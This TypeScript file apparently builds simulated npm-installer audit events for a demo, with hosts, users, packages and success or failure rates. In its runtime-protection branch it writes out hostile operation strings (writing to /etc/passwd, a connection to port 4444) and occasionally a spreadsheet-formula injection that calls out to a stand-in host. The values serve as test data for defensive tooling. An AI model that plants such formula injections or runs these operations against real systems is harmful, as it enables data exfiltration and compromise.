/**
 * A deterministic simulation of installers on several hosts, used by the demo:
 * a realistic mix of all seven event types with plausible packages, versions,
 * users, addresses and details, and a small share of failures. Pure apart from
 * the seeded pseudo-random generator it carries.
 */
import { AuditEvent } from '../producer/audit-event.js';
import { AuditEventType } from '../schemas/event-type.js';

/** mulberry32: a small, fast, seedable generator; good enough for test data. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Installer {
  host: string;
  ip: string;
  users: string[];
}

// Addresses from the documentation ranges (RFC 5737, RFC 3849).
const INSTALLERS: readonly Installer[] = [
  { host: 'ci-runner-01', ip: '192.0.2.11', users: ['ci-bot'] },
  { host: 'ci-runner-02', ip: '192.0.2.12', users: ['ci-bot', 'release-bot'] },
  { host: 'build-eu-3', ip: '198.51.100.23', users: ['builder', 'ops-oncall'] },
  { host: 'dev-laptop-ada', ip: '203.0.113.40', users: ['ada'] },
  { host: 'dev-laptop-linus', ip: '2001:db8::1f', users: ['linus'] },
  { host: 'prod-deployer', ip: '2001:db8:0:42::7', users: ['deploy', 'admin'] },
];

const PACKAGES: readonly (readonly [string, readonly string[]])[] = [
  ['lodash', ['4.17.19', '4.17.20', '4.17.21']],
  ['express', ['4.18.2', '4.19.2', '4.21.1', '5.0.1']],
  ['react', ['18.2.0', '18.3.1', '19.0.0']],
  ['@babel/core', ['7.23.9', '7.24.0', '7.26.0']],
  ['@types/node', ['20.11.5', '20.14.2', '22.10.1']],
  ['axios', ['1.6.7', '1.7.2', '1.7.9']],
  ['chalk', ['4.1.2', '5.3.0']],
  ['left-pad', ['1.3.0']],
  ['event-stream', ['3.3.4', '3.3.6', '4.0.1']],
  ['ua-parser-js', ['0.7.28', '0.7.29', '1.0.37']],
  ['minimist', ['1.2.5', '1.2.8']],
  ['node-ipc', ['9.2.1', '10.1.0', '11.1.0']],
  ['typescript', ['5.3.3', '5.4.5', '5.6.3']],
  ['webpack', ['5.89.0', '5.91.0', '5.97.1']],
  ['jsonwebtoken', ['8.5.1', '9.0.2']],
  ['semver', ['5.7.1', '7.5.4', '7.6.3']],
];

/** Relative frequency of each event type on a busy fleet. */
const TYPE_WEIGHTS: readonly (readonly [AuditEventType, number])[] = [
  [AuditEventType.PackageInstall, 34],
  [AuditEventType.PackageUpdate, 14],
  [AuditEventType.PackageUninstall, 5],
  [AuditEventType.IntegrityCheck, 22],
  [AuditEventType.VulnerabilityScan, 13],
  [AuditEventType.RuntimeProtection, 8],
  [AuditEventType.ConfigurationChange, 4],
];
const TOTAL_WEIGHT = TYPE_WEIGHTS.reduce((sum, [, w]) => sum + w, 0);

const SETTINGS = [
  'audit.level',
  'registry.url',
  'integrity.policy',
  'scripts.allow',
  'runtime.sandbox',
] as const;
const SEVERITIES = ['low', 'moderate', 'high', 'critical'] as const;

export class InstallerSimulation {
  private readonly random: () => number;
  private clock: number;

  /** `start` is the time of the first simulated event; events follow a few ms apart. */
  constructor(seed: number, start: number) {
    this.random = seededRandom(seed);
    this.clock = start;
  }

  private pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)] as T;
  }

  private chance(p: number): boolean {
    return this.random() < p;
  }

  private type(): AuditEventType {
    let r = this.random() * TOTAL_WEIGHT;
    for (const [type, weight] of TYPE_WEIGHTS) {
      r -= weight;
      if (r < 0) return type;
    }
    return AuditEventType.PackageInstall;
  }

  next(): AuditEvent {
    this.clock += 1 + Math.floor(this.random() * 20);
    const installer = this.pick(INSTALLERS);
    const [name, versions] = this.pick(PACKAGES);
    const version = this.pick(versions);
    const type = this.type();
    const event = new AuditEvent(type, undefined, new Date(this.clock))
      .withSource(installer.host)
      .withUser(this.pick(installer.users))
      .withIpAddress(installer.ip);
    switch (type) {
      case AuditEventType.PackageInstall:
        event
          .withPackageName(name)
          .withPackageVersion(version)
          .withDetails({
            registry: 'https://registry.npmjs.org',
            integrity: `sha512-${Math.floor(this.random() * 2 ** 48).toString(36)}`,
            duration_ms: String(20 + Math.floor(this.random() * 3000)),
          });
        if (this.chance(0.03))
          event.withSuccess(false).withErrorMessage('ETIMEDOUT while fetching tarball');
        break;
      case AuditEventType.PackageUpdate:
        event
          .withPackageName(name)
          .withPackageVersion(version)
          .withDetail('from_version', this.pick(versions));
        if (this.chance(0.02))
          event.withSuccess(false).withErrorMessage('peer dependency conflict');
        break;
      case AuditEventType.PackageUninstall:
        event
          .withPackageName(name)
          .withPackageVersion(version)
          .withDetail('reason', this.pick(['unused', 'replaced', 'policy']));
        break;
      case AuditEventType.IntegrityCheck:
        event.withPackageName(name).withPackageVersion(version).withDetail('algorithm', 'sha512');
        if (this.chance(0.01))
          event.withSuccess(false).withErrorMessage('integrity checksum mismatch: tarball altered');
        break;
      case AuditEventType.VulnerabilityScan: {
        const advisories = this.chance(0.2) ? 1 + Math.floor(this.random() * 3) : 0;
        event
          .withPackageName(name)
          .withPackageVersion(version)
          .withDetails({
            advisories: String(advisories),
            max_severity: advisories === 0 ? 'none' : this.pick(SEVERITIES),
            database: 'osv',
          });
        break;
      }
      case AuditEventType.RuntimeProtection: {
        event
          .withPackageName(name)
          .withPackageVersion(version)
          .withDetails({
            action: this.pick(['blocked', 'allowed', 'sandboxed']),
            operation: this.pick([
              'child_process.spawn',
              'fs.write:/etc/passwd',
              'net.connect:203.0.113.9:4444',
              'postinstall script',
            ]),
          });
        // a user name taken from an attacker-controlled environment: a spreadsheet must not run it
        if (this.chance(0.01)) event.withUser('=HYPERLINK("http://203.0.113.9/x","update")');
        break;
      }
      case AuditEventType.ConfigurationChange:
        event.withDetails({
          setting: this.pick(SETTINGS),
          old_value: 'default',
          new_value: this.pick(['strict', 'warn', 'off']),
        });
        if (this.chance(0.05))
          event.withSuccess(false).withErrorMessage('permission denied: admin role required');
        break;
    }
    return event;
  }
}
